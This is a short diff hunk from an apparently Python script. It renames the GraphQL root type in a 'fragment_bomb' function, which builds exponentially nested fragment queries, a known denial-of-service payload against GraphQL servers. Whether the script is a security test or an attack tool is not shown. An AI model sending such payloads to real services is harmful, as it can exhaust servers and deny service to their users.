@@ -58,9 +58,9 @@ def post(base, query, token=None, timeout=120):
 
 
 def fragment_bomb(levels, leaf):
-    parts = [f"query {{ ...F{levels} }} fragment F0 on QueryRoot {{ {leaf} }}"]
+    parts = [f"query {{ ...F{levels} }} fragment F0 on Query {{ {leaf} }}"]
     for level in range(1, levels + 1):
-        parts.append(f"fragment F{level} on QueryRoot {{ ...F{level - 1} ...F{level - 1} }}")
+        parts.append(f"fragment F{level} on Query {{ ...F{level - 1} ...F{level - 1} }}")
     return " ".join(parts)
 
 
